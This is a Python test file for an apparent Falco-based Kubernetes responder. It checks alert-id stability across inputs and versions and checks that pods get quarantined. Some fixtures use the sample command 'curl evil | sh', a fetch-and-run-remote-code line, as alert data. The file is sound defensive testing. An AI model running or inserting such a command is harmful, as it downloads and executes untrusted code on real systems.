"""The alert's content id counts its output fields: alerts that differ only there are two alerts,
one event is one id whichever input brought it, and journals of earlier versions keep their ids."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

import aiohttp

from responder.alert import Alert, compute_alert_id
from responder.alert_json import alert_from_mapping, parse_falco_json
from responder.cluster.api import KubeGateway
from responder.dedupe import incident_id_for
from responder.ingest.grpc import alert_from_response
from responder.journal.store import Journal
from responder.service import Responder
from simulators.cluster_emulator import RunningCluster
from simulators.falco_grpc_server import response_from_falco_json
from simulators.falco_json import falco_alert
from simulators.seed import SeededPod
from tests.helpers import SHELL_RULE, responder_config

Seeded = tuple[RunningCluster, dict[str, SeededPod], str]
LABEL = "serving-guard.io/quarantine"
WHEN = "2025-02-01T10:00:00.000000001Z"


def without_output(pod: SeededPod, cmdline: str) -> dict[str, Any]:
    """Falco's JSON with ``json_include_output_property: false``: no output, only the fields."""
    payload = falco_alert(pod, SHELL_RULE, "Critical", "shell", {"proc.name": "sh", "proc.cmdline": cmdline})
    payload.pop("output")
    return {**payload, "time": WHEN}


def test_alerts_differing_only_in_fields_have_different_ids(seeded: Seeded) -> None:
    pods = seeded[1]
    first = alert_from_mapping(without_output(pods["vllm"], "sh -c id"))
    other_pod = alert_from_mapping(without_output(pods["kserve"], "sh -c id"))
    other_command = alert_from_mapping(without_output(pods["vllm"], "curl evil | sh"))
    assert len({first.alert_id, other_pod.alert_id, other_command.alert_id}) == 3
    # The same output, one extra field (append_output's extra_fields go to output_fields only).
    base = {**falco_alert(pods["vllm"], SHELL_RULE, "Critical", "shell", {"proc.name": "sh"}), "time": WHEN}
    extra = {**base, "output_fields": {**base["output_fields"], "team": "ml-platform"}}
    assert alert_from_mapping(base).alert_id != alert_from_mapping(extra).alert_id


def test_one_event_has_one_id_whatever_the_field_order_types_or_input(seeded: Seeded) -> None:
    payload = {
        **falco_alert(seeded[1]["vllm"], SHELL_RULE, "Critical", "shell", {"proc.tty": 34816, "flag": True}),
        "time": WHEN,
    }
    alert = alert_from_mapping(payload)
    reordered = {**payload, "output_fields": dict(reversed(list(payload["output_fields"].items())))}
    assert alert_from_mapping(reordered).alert_id == alert.alert_id
    # Falco's gRPC output: fields as text, no evt.time, a map without order.
    over_grpc = alert_from_response(response_from_falco_json(payload))
    assert over_grpc.fields["proc.tty"] == "34816" and "evt.time" not in over_grpc.fields
    assert over_grpc.alert_id == alert.alert_id
    # The bytes as sent, through the HTTP input's decoder, give the same id as well.
    assert parse_falco_json(json.dumps(payload).encode()).alert_id == alert.alert_id


def test_an_alert_without_fields_keeps_the_id_earlier_versions_gave_it() -> None:
    alert = alert_from_mapping(
        {"rule": "r", "priority": "Notice", "time": WHEN, "output": "o", "output_fields": {"evt.time": 1}}
    )
    earlier = compute_alert_id("r", alert.time_ns, None, "syscall", "o", alert.priority, ())
    assert alert.alert_id == earlier


async def post(url: str, payload: dict[str, Any]) -> tuple[int, dict[str, Any]]:
    async with aiohttp.ClientSession() as session, session.post(f"{url}/v1/alerts", json=payload) as response:
        return response.status, await response.json(content_type=None)


def quarantined(running: RunningCluster, pod: SeededPod) -> bool:
    stored = running.call(running.emulator.get_object, "v1/pods", pod.namespace, pod.name)
    return bool(stored["metadata"].get("labels", {}).get(LABEL) == "true")


async def test_two_alerts_without_output_for_two_pods_are_both_acted_on(
    tmp_path: Path, seeded: Seeded
) -> None:
    running, pods, kubeconfig = seeded
    config = responder_config(tmp_path, kubeconfig)
    responder = Responder(config, KubeGateway.from_config(config.cluster))
    await responder.start()
    try:
        url = responder.http_url or ""
        first = await post(url, without_output(pods["vllm"], "sh -c id"))
        second = await post(url, without_output(pods["kserve"], "curl evil | sh"))
        assert first[0] == second[0] == 202
        assert first[1]["status"] == second[1]["status"] == "accepted"
        assert first[1]["alert_id"] != second[1]["alert_id"]
        assert responder.pipeline is not None and await responder.pipeline.drain(timeout=10)
        assert quarantined(running, pods["vllm"]) and quarantined(running, pods["kserve"])
    finally:
        await responder.stop()


def id_of_earlier_versions(alert: Alert) -> str:
    """The id an earlier version (fields not counted) gave the alert."""
    return compute_alert_id(
        alert.rule, alert.time_ns, alert.hostname, alert.source, alert.output, alert.priority, alert.tags
    )


async def test_an_alert_journaled_by_an_earlier_version_is_resumed_under_its_journaled_id(
    tmp_path: Path, seeded: Seeded
) -> None:
    running, pods, kubeconfig = seeded
    config = responder_config(tmp_path, kubeconfig)
    alert = alert_from_mapping(
        falco_alert(pods["vllm"], SHELL_RULE, "Critical", "shell", {"proc.name": "sh"})
    )
    journaled = dataclasses.replace(alert, alert_id=id_of_earlier_versions(alert))
    assert journaled.alert_id != alert.alert_id
    earlier = Journal(config.journal.path, max_bytes=config.journal.max_bytes, retention_seconds=3600)
    with earlier:  # accepted, then the responder stopped before processing it
        assert earlier.run_sync(Journal.op_append_alert(journaled, "http", 1))

    responder = Responder(config, KubeGateway.from_config(config.cluster))
    await responder.start()
    try:
        assert responder.pipeline is not None and await responder.pipeline.drain(timeout=10)
        assert responder.journal.pending_count() == 0  # finished under the id its row has
        with responder.journal.reader() as conn:
            rows = conn.execute("SELECT alert_id, outcome, incident_id FROM alerts").fetchall()
        assert [tuple(row) for row in rows] == [(journaled.alert_id, "opened", incident_id_for(journaled))]
        assert quarantined(running, pods["vllm"])
    finally:
        await responder.stop()
